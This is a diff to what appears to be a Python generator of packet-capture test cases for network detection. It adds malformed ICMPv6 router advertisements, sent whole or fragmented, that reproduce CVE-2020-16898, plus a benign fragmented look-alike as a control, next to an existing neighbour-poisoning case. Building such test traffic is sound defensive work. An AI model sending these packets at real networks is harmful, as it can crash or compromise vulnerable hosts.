@@ -120,5 +120,31 @@ def poison_neighbour(c):
         neighbour(c, 10 + 2 * i, ATTACKER6, "fd00::9", mac(ATTACKER))
 
 
+def name_servers(c, t, units, way=1):
+    """A router advertisement with an RDNSS option that says `units` of 8 bytes; in `way` fragments."""
+    option = struct.pack("!BBHI", 25, units, 0, 600) + packed("2001:db8::53") * 3
+    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\1\1" + mac(GATEWAY) + option
+    body = body[:24 + units * 8]
+    if way == 1:
+        c.add(t, ip(GATEWAY6, ALL_NODES, 58, body, ttl=255, smac=mac(GATEWAY)))
+        return
+    for i in range(0, len(body), 32):
+        head = struct.pack("!BBHI", 58, 0, i | (i + 32 < len(body)), 7)
+        c.add(t + i / 1000, ip(GATEWAY6, ALL_NODES, 44, head + body[i:i + 32], ttl=255, smac=mac(GATEWAY)))
+
+
+@case()
+def exploit_bad_neighbour(c):
+    """CVE-2020-16898: a list of name servers that ends within an address, in fragments."""
+    name_servers(c, 0, 4, way=2)
+
+
+@case()
+def exploit_none_name_servers(c):
+    """One and two name servers; the second in fragments, which is odd but no attack."""
+    name_servers(c, 0, 3)
+    name_servers(c, 1, 5, way=2)
+
+
 if __name__ == "__main__":
     make.main(sys.argv[1:])
